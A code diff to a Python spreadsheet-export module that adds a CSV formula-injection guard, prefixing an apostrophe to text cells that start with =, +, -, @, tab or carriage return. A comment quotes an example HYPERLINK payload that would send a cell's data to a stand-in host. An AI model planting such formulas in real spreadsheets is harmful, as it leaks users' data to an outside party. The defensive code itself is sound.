@@ -7,15 +7,38 @@ Rows are written in order with xlsxwriter's constant-memory mode, so a 100,000-r
 
 import csv
 import datetime
+import re
 from collections.abc import Iterable, Sequence
 from dataclasses import dataclass, field
 from typing import IO
 
 import xlsxwriter
 
-from guanai.exchange.formulas import cell_safe
-
 MAX_WIDTH = 40
+
+# Formula injection (OWASP "CSV injection"): a name typed as =HYPERLINK("http://x/?"&A1,"点此") or
+# @SUM(...) is data to us but a formula to Excel, WPS and LibreOffice opening a CSV (and in an xlsx
+# written with xlsxwriter's write()). A text cell starting with = + - @ or a tab or carriage return
+# gets a leading apostrophe: shown as text, never evaluated. A plain number written as text
+# ("-30.00", "+86") cannot be a formula and stays as it is. Every export writes its text cells
+# through cell_safe(): people, figures, rosters and bank files, import error reports.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")
+
+
+def formula_like(text: str) -> bool:
+    return text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text)
+
+
+def cell_safe(value: object) -> object:
+    """The value to write into a cell: formula-like text with a leading apostrophe, the rest unchanged."""
+    if isinstance(value, str) and formula_like(value):
+        return "'" + value
+    return value
+
+
+def row_safe(row) -> list:
+    return [cell_safe(value) for value in row]
 
 
 @dataclass(frozen=True)
